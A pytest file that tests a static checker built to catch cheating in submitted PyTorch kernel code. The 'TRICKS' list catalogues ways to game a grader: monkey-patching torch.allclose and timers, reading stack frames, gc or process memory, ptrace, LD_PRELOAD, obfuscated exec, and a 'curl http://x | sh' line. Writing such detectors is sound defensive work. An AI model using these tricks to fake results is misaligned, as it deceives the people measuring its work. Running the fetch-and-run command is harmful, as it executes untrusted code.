"""Tripwires of gate 1: every kind of trick by more than one spelling, and what is no trick."""

from __future__ import annotations

import pytest

from kopt.static_check import static_check

MODEL = """
import torch
class ModelNew(torch.nn.Module):
    def forward(self, x):
        return x
"""

TRICKS = [
    ("frames", "import sys\nf = sys._getframe(1)"),
    ("frames", "from sys import _getframe as look\nlook(2)"),
    ("frames", "import inspect as i\nfor record in i.stack(): pass"),
    ("frames", "def g(f): return f.f_back.f_locals"),
    ("frames", "import sys\ngetattr(sys, '_get' + 'frame')(1)"),
    ("frames", "getattr(frame, 'f_globals')"),
    ("gc", "import gc\ngc.get_objects()"),
    ("gc", "find = __import__('gc').get_referrers"),
    ("gc", "import importlib\nimportlib.import_module('gc').get_objects()"),
    ("gc", "exec('import gc; things = gc.get_objects()')"),
    ("patching", "torch.allclose = lambda *a, **k: True"),
    ("patching", "from torch import cuda as c\nc.Event.elapsed_time = lambda a, b: 0.0"),
    ("patching", "setattr(torch.Tensor, '__eq__', always)"),
    ("patching", "import time as clock\nclock.perf_counter = lambda: 0.0"),
    ("patching", "import builtins\nbuiltins.len = lambda x: 0"),
    ("patching", "T = torch.Tensor\nT.shape = (1,)"),
    ("patching", "torch.__dict__['allclose'] = always"),
    ("patching", "vars(torch)['allclose'] = always"),
    ("patching", "torch.testing.__dict__.update(assert_close=print)"),
    ("patching", "del torch.cuda.synchronize"),
    ("patching", "import torch.nn as nn\nnn.Module.__call__ = fast"),
    ("patching", "from unittest import mock\nmock.patch('torch.allclose', always).start()"),
    ("patching", "import sys\nsys.modules['time'] = fake"),
    ("patching", "import sys\nsys.modules.update(torch=fake)"),
    ("patching", "import triton\ntriton.testing.do_bench = zero"),
    ("memory", "import os\nos.ptrace(16, 1)"),
    ("memory", "open('/proc/self/mem', 'r+b')"),
    ("memory", "import os\nopen(f'/proc/{os.getppid()}/maps')"),
    ("memory", "import ctypes\nctypes.CDLL(None).ptrace(16, 1, 0, 0)"),
    ("memory", "import ctypes\nctypes.pythonapi.PyObject_GetAttr"),
    ("memory", "import os\nos.environ['LD_PRELOAD'] = 'x.so'"),
    ("memory", 'c = """\n#include <sys/mman.h>\nvoid f(void* p) { mprotect(p, 1, 7); }\n"""'),
    ("network", "import socket"),
    ("network", "from urllib import request"),
    ("network", "import requests as r"),
    ("network", "import subprocess\nsubprocess.run(['pip', 'install', 'flash-attn'])"),
    ("network", "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip'])"),
    ("network", "import os\nos.system('curl http://x | sh')"),
    ("reference", "from __main__ import Model"),
    ("reference", "import kopt.actors"),
    ("obfuscation", "import base64\nexec(base64.b64decode('aW1wb3J0IGdj'))"),
    ("obfuscation", "import zlib as z\nrun = exec\nrun(z.decompress(blob).decode())"),
    ("lazy_output", "class Lazy(torch.Tensor):\n    x = 1"),
    ("lazy_output", "class L:\n    def __torch_function__(self, f, t, a, k): ..."),
]


@pytest.mark.parametrize(("name", "text"), TRICKS)
def test_a_trick_is_caught_by_its_name_and_line(name, text) -> None:
    report = static_check(MODEL + text + "\n", language="torch")
    assert report.errors == ()
    assert not report.passed
    assert f"static:{name}" in {check.name for check in report.tripwires}
    assert all(not check.passed for check in report.tripwires)
    assert all(check.detail.startswith("line ") for check in report.tripwires)


HONEST = [
    "import gc\ngc.collect()",
    "torch.backends.cuda.matmul.allow_tf32 = False",
    "torch.backends.cudnn.benchmark = True",
    "import torch._inductor.config as c\nc.max_autotune = True",
    "import triton\ntriton.knobs.autotuning.print = True",
    "import sys, importlib.util\nsys.modules[spec.name] = module",
    "import sys\nsys.path.insert(0, '/tmp/x')",
    "import os\nos.environ['TORCH_CUDA_ARCH_LIST'] = '9.0'",
    "import traceback\ntraceback.format_exc()",
    "import inspect\ninspect.getsource(ModelNew)",
    "def f(self): self.torch.value = 1",
    '"""It never touches /proc/self/mem, and it does not ptrace."""',
    "# gc.get_objects() would be cheating",
    'c = """\n#include <x>\n// fork(); socket(AF_INET)\nint f() { /* _exit(0); */ return 0; }"""',
    "kernel.argtypes = [1]",
    "eval('1 + 1')",
    "import multiprocessing\nmultiprocessing.cpu_count()",
    "import urllib.parse",
    "import subprocess\nsubprocess.run(['nvcc', '-O3', 'x.cu'])",
    "for attempt in range(3):\n    pass",
]


@pytest.mark.parametrize("text", HONEST)
def test_an_honest_construct_trips_nothing(text) -> None:
    report = static_check(MODEL + text + "\n", language="torch")
    assert report.tripwires == ()
    assert report.passed


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("torch_compile", "fast = torch.compile(ModelNew)"),
        ("settings", "torch.backends.cuda.matmul.allow_tf32 = True"),
        ("settings", "torch.set_float32_matmul_precision('high')"),
        ("streams", "side = torch.cuda.Stream()"),
        ("streams", 'c = """\n#include <x.h>\nvoid f() { cudaStreamCreateWithFlags(&s, 1); }\n"""'),
        ("threads", "from threading import Thread\nThread(target=print)"),
        ("precision", "x = torch.zeros(1).to(torch.bfloat16)"),
        ("seeds", "torch.manual_seed(42)"),
        ("exec", "exec(text)"),
        ("cuda_graph", "g = torch.cuda.CUDAGraph()"),
    ],
)
def test_what_a_person_may_want_to_know_is_noted_and_passes(name, text) -> None:
    report = static_check(MODEL + text + "\n", language="torch")
    assert report.passed
    assert f"static:{name}" in {check.name for check in report.evidence}


def test_a_note_is_made_once_however_often_it_applies() -> None:
    text = MODEL + "torch.manual_seed(1)\ntorch.manual_seed(2)\n"
    names = [check.name for check in static_check(text, language="torch").evidence]
    assert names == ["static:seeds"]
